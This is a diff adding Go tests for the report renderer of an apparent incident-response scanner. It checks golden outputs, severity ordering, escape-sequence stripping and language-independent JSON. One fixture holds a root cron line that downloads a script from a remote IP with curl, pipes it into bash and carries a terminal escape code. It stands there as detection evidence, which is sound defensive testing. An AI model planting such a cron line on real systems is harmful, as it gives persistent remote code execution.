@@ -1,0 +1,107 @@
+package report
+
+import (
+	"bytes"
+	"encoding/json"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/vigil-ir/vigil/internal/catalog"
+	"github.com/vigil-ir/vigil/internal/model"
+	"github.com/vigil-ir/vigil/internal/testutil"
+)
+
+func fixtureResult() *model.Result {
+	start := time.Date(2026, 11, 24, 3, 0, 0, 0, time.UTC)
+	return &model.Result{
+		SchemaVersion: model.SchemaVersion,
+		Meta: model.ScanMeta{ID: "s1", Tool: "vigil", Version: "test", Started: start, Finished: start.Add(1500 * time.Millisecond),
+			Target: model.TargetInfo{Root: "/", Live: true, Hostname: "web1", OS: "Debian GNU/Linux 12 (bookworm)"}},
+		Findings: []model.Finding{
+			{RuleID: "scan.coverage.incomplete", Severity: model.Low, Confidence: model.ConfMedium, Subject: "/etc/shadow", Evidence: model.Evidence{Path: "/etc/shadow"}, Fingerprint: "fp2"},
+			{RuleID: "scan.coverage.incomplete", Severity: model.Critical, Confidence: model.ConfHigh, Technique: "T1053.003", Subject: "/etc/cron.d/php2",
+				Indicators: []string{"download-exec"},
+				Evidence:   model.Evidence{Path: "/etc/cron.d/php2", Line: 3, Text: "* * * * * root curl -fsSL http://203.0.113.7/x.sh | bash\x1b[2J", User: "root", When: "schedule", Package: model.NoPackage}, Fingerprint: "fp1"},
+		},
+		Gaps: []model.Gap{
+			{Check: "accounts", Kind: model.GapError, Path: "/etc/gshadow", Reason: "permission denied"},
+			{Check: "process", Kind: model.GapNotApplicable, Reason: "needs a live host"},
+		},
+		Summary: model.Summary{Counts: map[model.Severity]int{model.Critical: 1, model.Low: 1}, Total: 2, Suppressed: 1, Gaps: 2,
+			Checks: []model.CheckStatus{{Name: "accounts", Status: "ok"}, {Name: "process", Status: "not-applicable"}}},
+	}
+}
+
+func render(t *testing.T, format, lang string, verbose bool) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	h, err := New(format, &buf, Options{Lang: lang, Catalog: catalog.MustLoad(), Verbose: verbose})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := Replay(fixtureResult(), h); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+func TestGoldenOutputs(t *testing.T) {
+	tests := []struct {
+		name, format, lang string
+		verbose            bool
+	}{
+		{"table-en.txt", "table", catalog.English, false},
+		{"table-zh.txt", "table", catalog.Chinese, true},
+		{"result.json", "json", catalog.English, false},
+		{"result.jsonl", "jsonl", catalog.Chinese, false},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			testutil.Golden(t, "testdata/"+tc.name, render(t, tc.format, tc.lang, tc.verbose))
+		})
+	}
+}
+
+func TestTableNeverPassesControlCharacters(t *testing.T) {
+	out := render(t, "table", catalog.English, false)
+	if bytes.Contains(out, []byte("\x1b")) {
+		t.Fatal("evidence escape sequence reached the terminal")
+	}
+	if !strings.Contains(string(out), "CRITICAL") || strings.Index(string(out), "CRITICAL") > strings.Index(string(out), "LOW ") {
+		t.Fatal("table not sorted by severity")
+	}
+}
+
+func TestJSONKeysDoNotDependOnLanguage(t *testing.T) {
+	keys := func(lang string) []string {
+		var m map[string]any
+		if err := json.Unmarshal(render(t, "json", lang, false), &m); err != nil {
+			t.Fatal(err)
+		}
+		f := m["findings"].([]any)[0].(map[string]any)
+		var ks []string
+		for k := range f {
+			ks = append(ks, k)
+		}
+		if f["severity"] != "critical" || f["rule_id"] != "scan.coverage.incomplete" {
+			t.Fatalf("enum values changed with language %s: %v", lang, f)
+		}
+		return ks
+	}
+	if len(keys(catalog.English)) != len(keys(catalog.Chinese)) {
+		t.Fatal("JSON keys differ between languages")
+	}
+}
+
+func TestUnknownFormat(t *testing.T) {
+	if _, err := New("xml", &bytes.Buffer{}, Options{}); err == nil {
+		t.Fatal("unknown format accepted")
+	}
+}
+
+func TestDisplayWidth(t *testing.T) {
+	if displayWidth("严重") != 4 || displayWidth("HIGH") != 4 {
+		t.Fatal("display width")
+	}
+}
